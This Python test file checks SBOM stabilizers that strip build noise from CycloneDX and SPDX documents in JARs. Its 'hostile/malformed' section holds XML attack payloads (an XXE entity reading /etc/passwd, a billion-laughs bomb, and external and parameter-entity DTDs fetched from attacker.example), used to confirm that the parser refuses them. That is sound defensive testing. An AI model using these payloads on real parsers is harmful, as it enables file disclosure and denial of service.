"""Tests of the SBOM stabilizers (sbom-cyclonedx, sbom-spdx) and of the shared codecs in canonjar.formats.sbom.

The documents are written the way the generators write them: cyclonedx-maven-plugin 2.7.x (Jackson's pretty
printer with ``" : "`` separators for JSON, the plugin's XML with ``tools/tool`` for spec 1.4 and
``tools/components`` for 1.5, eight hash algorithms of each JAR), the SPDX Maven plugin (SPDX 2.3 JSON with
``SPDXRef-gnrtdN`` ids) and syft (``Tool: syft-x.y.z`` creators, tag-value and JSON). Two runs of the "same
build" differ in serial number, timestamp, tool version and list order; real changes (a dependency version,
an added component, a digest) must stay reported with the entry path.
"""

from __future__ import annotations

import contextlib
import hashlib
import json
import time
import uuid
from collections.abc import Callable
from dataclasses import dataclass, field, replace
from typing import cast

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from lxml import etree

from canonjar.api import compare_bytes
from canonjar.errors import StabilizerSkip
from canonjar.formats import sbom as fmt
from canonjar.limits import Budget
from canonjar.model import Entry, Payload
from canonjar.outcome import DifferenceKind, Outcome, Verdict
from canonjar.pipeline import Context, Side, Stabilizer
from canonjar.stabilizers import sbom_cyclonedx as cdx
from canonjar.stabilizers import sbom_spdx as spdx
from canonjar.taxonomy import Category
from tests.helpers import Item, make_zip

MF = b"Manifest-Version: 1.0\r\nCreated-By: Maven JAR Plugin 3.3.0\r\nBuild-Jdk-Spec: 17\r\n\r\n"
CLS = bytes.fromhex("cafebabe0000003d") + bytes(range(48))
CDX = cdx.STABILIZER
SPDX = spdx.STABILIZER

# --------------------------------------------------------------------------------------------- model

ALGS = ("MD5", "SHA-1", "SHA-256", "SHA-512", "SHA-384", "SHA3-384", "SHA3-256", "SHA3-512")
_HASHLIB = {"MD5": "md5", "SHA-1": "sha1", "SHA-256": "sha256", "SHA-512": "sha512", "SHA-384": "sha384",
            "SHA3-384": "sha3_384", "SHA3-256": "sha3_256", "SHA3-512": "sha3_512"}


@dataclass(frozen=True)
class Comp:
    group: str
    name: str
    version: str
    license: str = "Apache-2.0"
    scope: str = "required"
    salt: str = ""  # changes the digests (a rebuilt dependency JAR)

    @property
    def purl(self) -> str:
        return f"pkg:maven/{self.group}/{self.name}@{self.version}?type=jar"

    def digest(self, alg: str) -> str:
        return hashlib.new(_HASHLIB[alg], f"{self.purl}{self.salt}".encode()).hexdigest()


APP = Comp("com.example", "demo-app", "1.4.2")
LANG3 = Comp("org.apache.commons", "commons-lang3", "3.12.0")
JACKSON = Comp("com.fasterxml.jackson.core", "jackson-databind", "2.15.2")
ANNOT = Comp("com.fasterxml.jackson.core", "jackson-annotations", "2.15.2")
CORE = Comp("com.fasterxml.jackson.core", "jackson-core", "2.15.2")
SLF4J = Comp("org.slf4j", "slf4j-api", "2.0.7", license="MIT")


@dataclass(frozen=True)
class Build:
    """One run of a build that writes a CycloneDX SBOM."""

    spec: str = "1.4"
    serial: str = "urn:uuid:3e671687-395b-41f5-a30f-a58921a69b79"
    timestamp: str = "2023-06-12T09:41:27Z"
    tool_version: str = "2.7.9"
    app: Comp = APP
    comps: tuple[Comp, ...] = (LANG3, JACKSON, ANNOT, CORE, SLF4J)
    deps: tuple[tuple[str, tuple[str, ...]], ...] = field(default=())
    algs: tuple[str, ...] = ALGS

    def graph(self) -> list[tuple[str, list[str]]]:
        if self.deps:
            return [(a, list(b)) for a, b in self.deps]
        by = {c.name: c.purl for c in self.comps}
        out = [(self.app.purl, [c.purl for c in self.comps if c.name in ("commons-lang3", "jackson-databind",
                                                                           "slf4j-api")])]
        for c in self.comps:
            kids = [by[n] for n in ("jackson-annotations", "jackson-core") if c.name == "jackson-databind" and n in by]
            out.append((c.purl, kids))
        return out


def other_run(b: Build, **changes: object) -> Build:
    """The same build run again: new serial number, later timestamp, another plugin version, reversed order."""
    again = replace(b, serial=f"urn:uuid:{uuid.UUID(int=0x1234_5678_9ABC_4DEF_8123_456789ABCDEF)}",
                    timestamp="2023-06-13T17:02:55Z", tool_version="2.7.10", comps=tuple(reversed(b.comps)),
                    deps=tuple((a, tuple(reversed(k))) for a, k in reversed(b.graph())))
    return replace(again, **changes)  # type: ignore[arg-type]


def _tool_hashes(version: str) -> list[dict[str, str]]:
    return [{"alg": a, "content": Comp("org.cyclonedx", "cyclonedx-maven-plugin", version).digest(a)} for a in ALGS]


def _json_comp(c: Comp, b: Build, meta: bool = False) -> dict[str, object]:
    d: dict[str, object] = {"group": c.group, "name": c.name, "version": c.version}
    if not meta:
        d["scope"] = c.scope
        d["hashes"] = [{"alg": a, "content": c.digest(a)} for a in b.algs]
    d["licenses"] = [{"license": {"id": c.license}}]
    d["purl"] = c.purl
    if not meta:
        d["externalReferences"] = [{"type": "website", "url": f"https://example.org/{c.name}"}]
    d["type"] = "library"
    d["bom-ref"] = c.purl
    return d


def cdx_json(b: Build) -> bytes:
    """A bom.json as cyclonedx-maven-plugin 2.7.x writes it (Jackson DefaultPrettyPrinter layout)."""
    if b.spec == "1.4":
        tools: object = [{"vendor": "OWASP Foundation", "name": "CycloneDX Maven plugin",
                          "version": b.tool_version, "hashes": _tool_hashes(b.tool_version)}]
    else:
        purl = f"pkg:maven/org.cyclonedx/cyclonedx-maven-plugin@{b.tool_version}?type=jar"
        tools = {"components": [{"type": "library", "author": "OWASP Foundation", "group": "org.cyclonedx",
                                 "name": "cyclonedx-maven-plugin", "version": b.tool_version,
                                 "description": "CycloneDX Maven plugin", "hashes": _tool_hashes(b.tool_version),
                                 "purl": purl}]}
    doc = {
        "bomFormat": "CycloneDX", "specVersion": b.spec, "serialNumber": b.serial, "version": 1,
        "metadata": {"timestamp": b.timestamp, "tools": tools, "component": _json_comp(b.app, b, meta=True)},
        "components": [_json_comp(c, b) for c in b.comps],
        "dependencies": [{"ref": a, "dependsOn": k} for a, k in b.graph()],
    }
    return json.dumps(doc, indent=2, separators=(",", " : ")).encode() + b"\n"


def _xml_hashes(c: Comp, algs: tuple[str, ...], pad: str) -> str:
    inner = "".join(f'{pad}  <hash alg="{a}">{c.digest(a)}</hash>\n' for a in algs)
    return f"{pad}<hashes>\n{inner}{pad}</hashes>\n"


def _xml_comp(c: Comp, b: Build, meta: bool = False) -> str:
    p = "      " if meta else "    "
    s = f'{p[:-2]}<component type="library" bom-ref="{c.purl}">\n'
    s += f"{p}<group>{c.group}</group>\n{p}<name>{c.name}</name>\n{p}<version>{c.version}</version>\n"
    if not meta:
        s += f"{p}<scope>{c.scope}</scope>\n" + _xml_hashes(c, b.algs, p)
    s += f"{p}<licenses>\n{p}  <license>\n{p}    <id>{c.license}</id>\n{p}  </license>\n{p}</licenses>\n"
    s += f"{p}<purl>{c.purl}</purl>\n"
    return s + f"{p[:-2]}</component>\n"


def cdx_xml(b: Build) -> bytes:
    """A bom.xml as cyclonedx-maven-plugin 2.7.x writes it."""
    tool = Comp("org.cyclonedx", "cyclonedx-maven-plugin", b.tool_version)
    if b.spec == "1.4":
        tools = ("      <tool>\n        <vendor>OWASP Foundation</vendor>\n"
                 "        <name>CycloneDX Maven plugin</name>\n"
                 f"        <version>{b.tool_version}</version>\n" + _xml_hashes(tool, ALGS, "        ")
                 + "      </tool>\n")
    else:
        tools = ('      <components>\n        <component type="library">\n'
                 "          <author>OWASP Foundation</author>\n          <group>org.cyclonedx</group>\n"
                 "          <name>cyclonedx-maven-plugin</name>\n"
                 f"          <version>{b.tool_version}</version>\n"
                 "          <description>CycloneDX Maven plugin</description>\n"
                 + _xml_hashes(tool, ALGS, "          ")
                 + f"          <purl>{tool.purl}</purl>\n        </component>\n      </components>\n")
    deps = ""
    for a, kids in b.graph():
        if kids:
            deps += f'    <dependency ref="{a}">\n'
            deps += "".join(f'      <dependency ref="{k}"/>\n' for k in kids) + "    </dependency>\n"
        else:
            deps += f'    <dependency ref="{a}"/>\n'
    return (
        '<?xml version="1.0" encoding="UTF-8"?>\n'
        f'<bom xmlns="http://cyclonedx.org/schema/bom/{b.spec}" serialNumber="{b.serial}" version="1">\n'
        f"  <metadata>\n    <timestamp>{b.timestamp}</timestamp>\n    <tools>\n{tools}    </tools>\n"
        + _xml_comp(b.app, b, meta=True).replace("\n  <", "\n    <").replace("  <component", "    <component", 1)
        + "  </metadata>\n  <components>\n" + "".join(_xml_comp(c, b) for c in b.comps)
        + f"  </components>\n  <dependencies>\n{deps}  </dependencies>\n</bom>\n"
    ).encode()


def jar(sbom_path: str, sbom: bytes, *extra: Item) -> bytes:
    items = [Item("META-INF/MANIFEST.MF", MF), Item("com/example/App.class", CLS), Item(sbom_path, sbom), *extra]
    return make_zip(items)


def triples(o: Outcome) -> set[tuple[str, DifferenceKind, str]]:
    return {(d.path, d.kind, d.aspect) for d in o.differences}


def unstabilized(path: str) -> set[tuple[str, DifferenceKind, str]]:
    """The differences of an SBOM entry compared as is: its content and so its deflated stream."""
    return {(path, DifferenceKind.CHANGED, "content"), (path, DifferenceKind.METADATA, "compressed-bytes")}


def ctx() -> Context:
    return Context(side=Side.REFERENCE, budget=Budget())


def apply(st: Stabilizer, e: Entry, c: Context) -> Entry:
    fn = cast(Callable[[Entry, Context], Entry], st.apply)
    return fn(e, c)


def entry(name: str, data: bytes) -> Entry:
    return Entry(name=name.encode(), payload=Payload.of_bytes(data, name))


# --------------------------------------------------------------------------------------------- CycloneDX tables

FORMATS: dict[str, tuple[str, Callable[[Build], bytes], str]] = {
    # id: (spec, writer, entry path)
    "json-1.4": ("1.4", cdx_json, "META-INF/sbom/application.cdx.json"),
    "json-1.5": ("1.5", cdx_json, "META-INF/sbom/bom.json"),
    "xml-1.4": ("1.4", cdx_xml, "META-INF/sbom/bom.xml"),
    "xml-1.5": ("1.5", cdx_xml, "META-INF/sbom/application.cdx.xml"),
    "json-by-content": ("1.5", cdx_json, "BOOT-INF/classes/sbom/dependencies.json"),
    "xml-by-content": ("1.4", cdx_xml, "META-INF/maven/com.example/demo-app/dependencies.xml"),
    "json-root-bom": ("1.4", cdx_json, "bom.json"),
}

# rebuild variant of the reference build: (id, change, must stay different)
BUMPED = Comp("org.apache.commons", "commons-lang3", "3.13.0")
ROWS: list[tuple[str, Callable[[Build], Build], bool]] = [
    ("same-build-rerun", other_run, False),
    ("same-build-only-serial", lambda b: replace(b, serial="urn:uuid:00000000-0000-4000-8000-000000000000"), False),
    ("same-build-only-tool", lambda b: replace(b, tool_version="2.7.11"), False),
    ("dependency-version", lambda b: other_run(b, comps=(BUMPED, *b.comps[1:]), deps=()), True),
    ("added-component", lambda b: other_run(b, comps=(*b.comps, Comp("org.yaml", "snakeyaml", "2.0")), deps=()), True),
    ("changed-hash", lambda b: other_run(b, comps=(replace(LANG3, salt="rebuilt"), *b.comps[1:]), deps=()), True),
    ("app-version", lambda b: other_run(b, app=replace(APP, version="1.4.3"), deps=()), True),
    ("license", lambda b: other_run(b, comps=(*b.comps[:-1], replace(SLF4J, license="Apache-2.0")), deps=()), True),
    ("dependency-edge", lambda b: other_run(b, deps=tuple((a, ()) for a, _ in b.graph())), True),
    ("extra-hash-algorithms", lambda b: other_run(b, algs=ALGS[:3]), True),
]


@pytest.mark.parametrize("fmt_id", list(FORMATS))
@pytest.mark.parametrize(("row", "change", "different"), ROWS, ids=[r[0] for r in ROWS])
def test_cyclonedx_table(fmt_id: str, row: str, change: Callable[[Build], Build], different: bool) -> None:
    spec, write, path = FORMATS[fmt_id]
    ref_build = Build(spec=spec)
    ref, reb = jar(path, write(ref_build)), jar(path, write(change(ref_build)))
    raw = compare_bytes(ref, reb, stabilizers=[])
    assert triples(raw) == unstabilized(path), "the row must exercise the SBOM"
    out = compare_bytes(ref, reb, stabilizers=[CDX])
    assert not out.findings
    assert not [s for s in out.trace if s.action == "skipped"]
    if different:
        assert out.verdict is Verdict.DIFFERENT
        assert triples(out) == {(path, DifferenceKind.CHANGED, "content")}
        (d,) = out.differences
        assert d.diff is not None and "serialNumber" not in d.diff and "timestamp" not in d.diff
        assert "2.7.10" not in d.diff
    else:
        assert out.verdict is Verdict.EQUIVALENT, out.differences
    changed = {(s.side, s.path) for s in out.trace if s.stabilizer == "sbom-cyclonedx" and s.action == "changed"}
    assert changed == {("reference", path), ("rebuild", path)}


def _diff_of(o: Outcome) -> str:
    (d,) = o.differences
    assert d.diff is not None
    return d.diff


@pytest.mark.parametrize("write", [cdx_json, cdx_xml], ids=["json", "xml"])
def test_real_change_is_shown_in_the_diff(write: Callable[[Build], bytes]) -> None:
    b = Build()
    path = "bom.json" if write is cdx_json else "bom.xml"
    out = compare_bytes(jar(path, write(b)), jar(path, write(other_run(b, comps=(BUMPED, *b.comps[1:]), deps=()))),
                        stabilizers=[CDX])
    text = _diff_of(out)
    assert "-" in text and "3.12.0" in text and "3.13.0" in text
    removed = [ln for ln in text.splitlines() if ln.startswith("-") and not ln.startswith("---")]
    added = [ln for ln in text.splitlines() if ln.startswith("+") and not ln.startswith("+++")]
    assert removed and added
    assert all("3.12.0" in ln for ln in removed if "commons-lang3" in ln)


def test_hash_algorithm_evidence_per_side() -> None:
    b = Build()
    out = compare_bytes(jar("bom.json", cdx_json(b)), jar("bom.json", cdx_json(other_run(b, algs=ALGS[:3]))),
                        stabilizers=[CDX])
    algs = {e.side: e.value for e in out.evidence if e.key == "sbom-hash-algorithms"}
    assert algs == {"reference": "MD5,SHA-1,SHA-256,SHA-384,SHA-512,SHA3-256,SHA3-384,SHA3-512",
                    "rebuild": "MD5,SHA-1,SHA-256"}
    assert all(e.path == "bom.json" and e.stabilizer == "sbom-cyclonedx" for e in out.evidence)
    # the extra algorithms are kept, so the difference is still reported
    assert out.verdict is Verdict.DIFFERENT and "SHA3-512" in _diff_of(out)


@pytest.mark.parametrize("spec", ["1.4", "1.5"])
@pytest.mark.parametrize("write", [cdx_json, cdx_xml], ids=["json", "xml"])
def test_tool_version_evidence(spec: str, write: Callable[[Build], bytes]) -> None:
    b = Build(spec=spec)
    path = "META-INF/sbom/app.cdx." + ("json" if write is cdx_json else "xml")
    out = compare_bytes(jar(path, write(b)), jar(path, write(other_run(b))), stabilizers=[CDX])
    assert out.verdict is Verdict.EQUIVALENT
    tools = {e.side: e.value for e in out.evidence if e.key == "sbom-tool-version"}
    label = "OWASP Foundation CycloneDX Maven plugin" if spec == "1.4" else \
        "OWASP Foundation org.cyclonedx cyclonedx-maven-plugin"
    assert tools == {"reference": f"{label} 2.7.9", "rebuild": f"{label} 2.7.10"}


def test_canonical_json_content() -> None:
    b = Build(spec="1.5")
    new = cdx.canonicalize(cdx_json(other_run(b)), False, cdx.Notes())
    assert new is not None
    doc = json.loads(new)
    assert "serialNumber" not in doc and "timestamp" not in doc["metadata"]
    (tool,) = doc["metadata"]["tools"]["components"]
    assert tool == {"type": "library", "author": "OWASP Foundation", "group": "org.cyclonedx",
                    "name": "cyclonedx-maven-plugin", "description": "CycloneDX Maven plugin",
                    "purl": "pkg:maven/org.cyclonedx/cyclonedx-maven-plugin?type=jar"}
    refs = [c["bom-ref"] for c in doc["components"]]
    assert refs == sorted(refs)
    assert [d["ref"] for d in doc["dependencies"]] == sorted(d["ref"] for d in doc["dependencies"])
    assert all(d["dependsOn"] == sorted(d["dependsOn"]) for d in doc["dependencies"])
    assert doc["metadata"]["component"]["version"] == "1.4.2"
    assert new == fmt.dump_json(doc)  # sorted keys, two-space indentation
    assert new.startswith(b'{\n  "bomFormat": "CycloneDX",\n')


def test_canonical_xml_content() -> None:
    new = cdx.canonicalize(cdx_xml(other_run(Build(spec="1.4"))), True, cdx.Notes())
    assert new is not None
    text = new.decode()
    assert "serialNumber" not in text and "<timestamp>" not in text and "2.7.10" not in text
    assert "<name>CycloneDX Maven plugin</name>" in text and "<vendor>OWASP Foundation</vendor>" in text
    assert text.count("<hashes>") == 5  # the five components keep theirs; the tool's are gone
    assert not text.startswith("<?xml")  # C14N
    names = [ln.strip() for ln in text.splitlines() if ln.startswith("    <component ")]
    assert names == sorted(names)
    assert '    <dependency ref="pkg:maven/com.example/demo-app@1.4.2?type=jar">\n      <dependency ' in text


def test_serial_number_that_is_not_a_uuid_is_kept() -> None:
    doc = json.loads(cdx_json(Build()))
    doc["serialNumber"] = "urn:example:build-42"
    new = cdx.canonicalize(json.dumps(doc).encode(), False, cdx.Notes())
    assert new is not None and b"urn:example:build-42" in new


@pytest.mark.parametrize("write", [cdx_json, cdx_xml], ids=["json", "xml"])
@pytest.mark.parametrize("spec", ["1.4", "1.5"])
def test_cyclonedx_idempotent_and_same_entry(write: Callable[[Build], bytes], spec: str) -> None:
    name = "META-INF/sbom/bom." + ("json" if write is cdx_json else "xml")
    e = entry(name, write(other_run(Build(spec=spec))))
    c = ctx()
    once = apply(CDX, e, c)
    assert once is not e
    assert isinstance(once, Entry) and once.name == e.name
    twice = apply(CDX, once, c)
    assert twice is once  # nothing left to change: the very same entry


def test_trace_records_old_and_new() -> None:
    b = Build()
    out = compare_bytes(jar("bom.json", cdx_json(b)), jar("bom.json", cdx_json(other_run(b))), stabilizers=[CDX])
    step = next(s for s in out.trace if s.side == "reference" and s.stabilizer == "sbom-cyclonedx")
    (ch,) = step.changes
    assert ch.field == "content" and ch.old.endswith(tuple("0123456789abcdef")) and "crc32:" in ch.old
    assert "sha256:" in ch.new and ch.old != ch.new
    assert CDX.category is Category.SBOM


@pytest.mark.parametrize(("path", "data"), [
    ("config/application.json", b'{"server": {"port": 8080}, "bomFormat": 1}'),
    ("META-INF/spring-configuration-metadata.json", b'{"groups": [], "properties": []}'),
    ("org/example/mapper/UserMapper.xml",
     b'<?xml version="1.0"?>\n<!DOCTYPE mapper PUBLIC "-//mybatis.org//DTD Mapper 3.0//EN" '
     b'"http://mybatis.org/dtd/mybatis-3-mapper.dtd">\n<mapper namespace="x"/>\n'),
    ("META-INF/sbom/app.spdx.json", b'{"spdxVersion": "SPDX-2.3", "SPDXID": "SPDXRef-DOCUMENT"}'),
    ("bom.xml", b'<project xmlns="http://maven.apache.org/POM/4.0.0"><modelVersion>4.0.0</modelVersion></project>'),
])
def test_other_json_and_xml_untouched(path: str, data: bytes) -> None:
    c = ctx()
    e = entry(path, data)
    assert apply(CDX, e, c) is e
    assert not c.findings and not c.evidence


# --------------------------------------------------------------------------------------------- hostile/malformed

XXE = (b'<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE bom [\n  <!ENTITY xxe SYSTEM "file:///etc/passwd">\n]>\n'
       b'<bom xmlns="http://cyclonedx.org/schema/bom/1.4" version="1"><components><component type="library">'
       b"<name>&xxe;</name></component></components></bom>\n")
LOLS = b"".join(b'  <!ENTITY lol%d "%s">\n' % (i, (b"&lol%d;" % (i - 1)) * 10) for i in range(1, 10))
BILLION_LAUGHS = (b'<?xml version="1.0"?>\n<!DOCTYPE bom [\n  <!ENTITY lol0 "lol">\n' + LOLS + b"]>\n"
                  b'<bom xmlns="http://cyclonedx.org/schema/bom/1.5"><metadata><timestamp>&lol9;</timestamp>'
                  b"</metadata></bom>\n")
EXTERNAL_DTD = (b'<?xml version="1.0"?>\n<!DOCTYPE bom SYSTEM "http://attacker.example/evil.dtd">\n'
                b'<bom xmlns="http://cyclonedx.org/schema/bom/1.4" version="1"/>\n')
PARAM_ENTITY = (b'<!DOCTYPE bom [<!ENTITY % ext SYSTEM "http://attacker.example/x.dtd"> %ext;]>'
                b'<bom xmlns="http://cyclonedx.org/schema/bom/1.4"/>')


@pytest.mark.parametrize(("data", "path"), [
    (XXE, "META-INF/sbom/bom.xml"),
    (BILLION_LAUGHS, "META-INF/sbom/application.cdx.xml"),
    (BILLION_LAUGHS.decode().encode("utf-16"), "bom.xml"),
    (EXTERNAL_DTD, "bom.xml"),
    (PARAM_ENTITY, "lib-sboms/found-by-content.xml"),
], ids=["xxe", "billion-laughs", "billion-laughs-utf16", "external-dtd", "parameter-entity"])
def test_hostile_xml_is_refused_with_finding(data: bytes, path: str) -> None:
    t0 = time.perf_counter()
    out = compare_bytes(jar(path, data), jar(path, data + b"\n"), stabilizers=[CDX])
    assert time.perf_counter() - t0 < 2.0
    skips = [s for s in out.trace if s.action == "skipped"]
    assert {(s.side, s.path) for s in skips} == {("reference", path), ("rebuild", path)}
    assert all("hostile" in s.reason for s in skips)
    assert {(f.side, f.code, f.path) for f in out.findings} == {("reference", "malformed-sbom", path),
                                                                ("rebuild", "malformed-sbom", path)}
    assert out.verdict is Verdict.DIFFERENT
    assert triples(out) == unstabilized(path)  # compared as is, never expanded


def test_billion_laughs_parse_is_refused_before_parsing() -> None:
    t0 = time.perf_counter()
    with pytest.raises(fmt.SbomError) as info:
        fmt.parse_xml(BILLION_LAUGHS)
    assert info.value.hostile
    assert time.perf_counter() - t0 < 0.5


@pytest.mark.parametrize(("data", "path", "reason"), [
    (b'{"bomFormat": "CycloneDX", "components": [', "META-INF/sbom/bom.json", "malformed JSON"),
    (b'{"bomFormat": "CycloneDX", "bomFormat": "Other"}', "sbom/x.json", "duplicate key"),
    (b'{"bomFormat": "CycloneDX", "version": NaN}', "bom.json", "NaN"),
    (b'{"bomFormat": "CycloneDX", "version": 1e999}', "bom.json", "overflows"),
    (b'{"bomFormat": "CycloneDX", "x": "\xff"}', "bom.json", "not UTF-8"),
    (b'{"bomFormat": "CycloneDX", "x": "\\ud800"}', "bom.json", "surrogate"),
    (b'<bom xmlns="http://cyclonedx.org/schema/bom/1.4"><components></bom>', "bom.xml", "malformed XML"),
    (b'<bom xmlns="http://cyclonedx.org/schema/bom/1.4">&undefined;</bom>', "bom.xml", "malformed XML"),
    (b'<!DOCTYPE bom><bom xmlns="http://cyclonedx.org/schema/bom/1.4"/>', "bom.xml", "DOCTYPE"),
    (b"[" * 100_000 + b"]" * 100_000, "bom.json", "malformed JSON"),
])
def test_malformed_sbom_is_skipped_without_finding(data: bytes, path: str, reason: str) -> None:
    c = ctx()
    c.stabilizer = CDX.name
    e = entry(path, data)
    with pytest.raises(StabilizerSkip, match=reason):
        apply(CDX, e, c)
    assert not c.findings
    out = compare_bytes(jar(path, data), jar(path, data + b" "), stabilizers=[CDX])
    assert [s.reason for s in out.trace if s.action == "skipped" and s.side == "reference"]
    assert triples(out) == unstabilized(path)


# --------------------------------------------------------------------------------------------- SPDX

def spdx_maven_json(version: str = "1.4.2", created: str = "2024-03-01T10:11:12Z",
                    ns_uuid: str = "3f6c1e9a-5b1a-4c43-9f0e-1d2b3c4d5e6f", lang3: str = "3.12.0",
                    sha1: str = "c6842c86792ff03b9f1d1fe2aab8dc23aa6c6f0e", reverse: bool = False,
                    tool: str = "spdx-maven-plugin-0.7.3", extra: bool = False) -> bytes:
    """SPDX 2.3 JSON as the SPDX Maven plugin writes it (Jackson layout, generated SPDXRef ids)."""
    pkgs = [
        {"SPDXID": "SPDXRef-gnrtd0", "name": "demo-app", "versionInfo": version, "downloadLocation": "NOASSERTION",
         "licenseConcluded": "Apache-2.0", "licenseDeclared": "Apache-2.0", "copyrightText": "NOASSERTION",
         "filesAnalyzed": False, "externalRefs": [{"referenceCategory": "PACKAGE-MANAGER",
                                                   "referenceType": "purl",
                                                   "referenceLocator": f"pkg:maven/com.example/demo-app@{version}"}]},
        {"SPDXID": "SPDXRef-gnrtd1", "name": "org.apache.commons:commons-lang3", "versionInfo": lang3,
         "downloadLocation": "NOASSERTION", "licenseConcluded": "NOASSERTION", "licenseDeclared": "Apache-2.0",
         "copyrightText": "NOASSERTION", "filesAnalyzed": False,
         "checksums": [{"algorithm": "SHA1", "checksumValue": sha1},
                       {"algorithm": "MD5", "checksumValue": "4b1f5e3f8e1a3c2d6a8b0f9e7d6c5b4a"}]},
    ]
    if extra:
        pkgs.append({"SPDXID": "SPDXRef-gnrtd2", "name": "org.yaml:snakeyaml", "versionInfo": "2.0",
                     "downloadLocation": "NOASSERTION", "copyrightText": "NOASSERTION", "filesAnalyzed": False})
    rels = [{"spdxElementId": "SPDXRef-DOCUMENT", "relationshipType": "DESCRIBES",
             "relatedSpdxElement": "SPDXRef-gnrtd0"},
            {"spdxElementId": "SPDXRef-gnrtd0", "relationshipType": "DYNAMIC_LINK",
             "relatedSpdxElement": "SPDXRef-gnrtd1"}]
    if reverse:
        pkgs.reverse()
        rels.reverse()
    doc = {"SPDXID": "SPDXRef-DOCUMENT", "spdxVersion": "SPDX-2.3",
           "creationInfo": {"comment": "Generated for SPDX Spec version 2.3", "created": created,
                            "creators": [f"Tool: {tool}", "Organization: Example Corp"],
                            "licenseListVersion": "3.22"},
           "name": "demo-app", "dataLicense": "CC0-1.0",
           "documentNamespace": f"http://spdx.org/spdxpackages/demo-app-{version}-{ns_uuid}",
           "documentDescribes": ["SPDXRef-gnrtd0"], "packages": pkgs, "relationships": rels}
    return json.dumps(doc, indent=2, separators=(",", " : ")).encode()


def syft_tag_value(created: str = "2023-07-01T12:00:00Z", ns_uuid: str = "9b2c5a4e-0f4d-4c1e-9d7a-3e2f1a0b9c8d",
                   tool: str = "syft-0.84.1", version: str = "3.12.0", newline: str = "\n") -> bytes:
    """An SPDX 2.3 tag-value document as ``syft -o spdx-tag-value`` writes it."""
    lines = [
        "SPDXVersion: SPDX-2.3", "DataLicense: CC0-1.0", "SPDXID: SPDXRef-DOCUMENT", "DocumentName: demo-app.jar",
        f"DocumentNamespace: https://anchore.com/syft/file/demo-app.jar-{ns_uuid}",
        "LicenseListVersion: 3.21", "Creator: Organization: Anchore, Inc", f"Creator: Tool: {tool}",
        f"Created: {created}", "", "##### Unpackaged files", "", "##### Package: commons-lang3", "",
        "PackageName: commons-lang3", "SPDXID: SPDXRef-Package-java-archive-commons-lang3-4d5d6c0f1c1a4e2b",
        f"PackageVersion: {version}", "PackageSupplier: NOASSERTION", "PackageDownloadLocation: NOASSERTION",
        "FilesAnalyzed: false", "PackageLicenseConcluded: NOASSERTION", "PackageLicenseDeclared: Apache-2.0",
        "PackageCopyrightText: NOASSERTION",
        "PackageComment: <text>Created: this line is part of a comment, not the creation time",
        "DocumentNamespace: also part of the comment</text>",
        f"ExternalRef: PACKAGE-MANAGER purl pkg:maven/org.apache.commons/commons-lang3@{version}", "",
        "##### Relationships", "",
        "Relationship: SPDXRef-DOCUMENT DESCRIBES SPDXRef-Package-java-archive-commons-lang3-4d5d6c0f1c1a4e2b", "",
    ]
    return newline.join(lines).encode()


SPDX_ROWS: list[tuple[str, str, bytes, bytes, bool]] = [
    ("maven-json-rerun", "META-INF/sbom/demo-app.spdx.json", spdx_maven_json(),
     spdx_maven_json(created="2024-03-02T08:00:00Z", ns_uuid="0a1b2c3d-4e5f-4a6b-8c7d-9e0f1a2b3c4d", reverse=True,
                     tool="spdx-maven-plugin-0.7.4"), False),
    ("json-by-content", "BOOT-INF/classes/sbom.json", spdx_maven_json(),
     spdx_maven_json(created="2025-01-01T00:00:00Z", ns_uuid="00000000-0000-4000-8000-000000000000"), False),
    ("syft-tag-value-rerun", "META-INF/sbom/demo-app.spdx", syft_tag_value(),
     syft_tag_value(created="2023-07-09T08:07:06Z", ns_uuid="11111111-2222-4333-8444-555555555555",
                    tool="syft-0.85.0"), False),
    ("syft-tag-value-crlf", "demo.spdx", syft_tag_value(newline="\r\n"),
     syft_tag_value(created="2023-07-09T08:07:06Z", tool="syft-v1.0.0", newline="\r\n"), False),
    ("json-package-version", "META-INF/sbom/demo-app.spdx.json", spdx_maven_json(),
     spdx_maven_json(lang3="3.13.0", reverse=True), True),
    ("json-checksum", "META-INF/sbom/demo-app.spdx.json", spdx_maven_json(),
     spdx_maven_json(sha1="0" * 40, created="2024-03-02T08:00:00Z"), True),
    ("json-added-package", "META-INF/sbom/demo-app.spdx.json", spdx_maven_json(), spdx_maven_json(extra=True), True),
    ("json-app-version", "META-INF/sbom/demo-app.spdx.json", spdx_maven_json(),
     spdx_maven_json(version="1.4.3", ns_uuid="0a1b2c3d-4e5f-4a6b-8c7d-9e0f1a2b3c4d"), True),
    ("tag-value-package-version", "demo.spdx", syft_tag_value(), syft_tag_value(version="3.13.0"), True),
]


@pytest.mark.parametrize(("row", "path", "ref_doc", "reb_doc", "different"), SPDX_ROWS,
                         ids=[r[0] for r in SPDX_ROWS])
def test_spdx_table(row: str, path: str, ref_doc: bytes, reb_doc: bytes, different: bool) -> None:
    ref, reb = jar(path, ref_doc), jar(path, reb_doc)
    assert triples(compare_bytes(ref, reb, stabilizers=[])) == unstabilized(path)
    out = compare_bytes(ref, reb, stabilizers=[SPDX])
    assert not out.findings and not [s for s in out.trace if s.action == "skipped"]
    if different:
        assert out.verdict is Verdict.DIFFERENT
        assert triples(out) == {(path, DifferenceKind.CHANGED, "content")}
    else:
        assert out.verdict is Verdict.EQUIVALENT, out.differences
    assert {s.side for s in out.trace if s.action == "changed"} == {"reference", "rebuild"}


def test_spdx_tag_value_keeps_other_lines_byte_for_byte() -> None:
    data = syft_tag_value(newline="\r\n")
    notes = spdx.Notes()
    new = spdx.canonicalize(data, True, notes)
    assert new is not None
    expected = [ln for ln in data.split(b"\r\n") if not ln.startswith((b"Created: 2023", b"DocumentNamespace: https"))]
    expected = [b"Creator: Tool: syft" if ln == b"Creator: Tool: syft-0.84.1" else ln for ln in expected]
    assert new == b"\r\n".join(expected)
    assert b"Created: this line is part of a comment" in new and b"DocumentNamespace: also part" in new
    assert notes.tool_versions == ["syft-0.84.1"]
    assert spdx.canonicalize(new, True, spdx.Notes()) == new


def test_spdx_json_content_and_evidence() -> None:
    out = compare_bytes(jar("x.spdx.json", spdx_maven_json()), jar("x.spdx.json", spdx_maven_json(reverse=True)),
                        stabilizers=[SPDX])
    assert {(e.side, e.key, e.value) for e in out.evidence} == {
        ("reference", "sbom-tool-version", "spdx-maven-plugin-0.7.3"),
        ("rebuild", "sbom-tool-version", "spdx-maven-plugin-0.7.3"),
        *((side, "sbom-removed", what) for side in ("reference", "rebuild")
          for what in ("serial-number", "timestamp", "order"))}
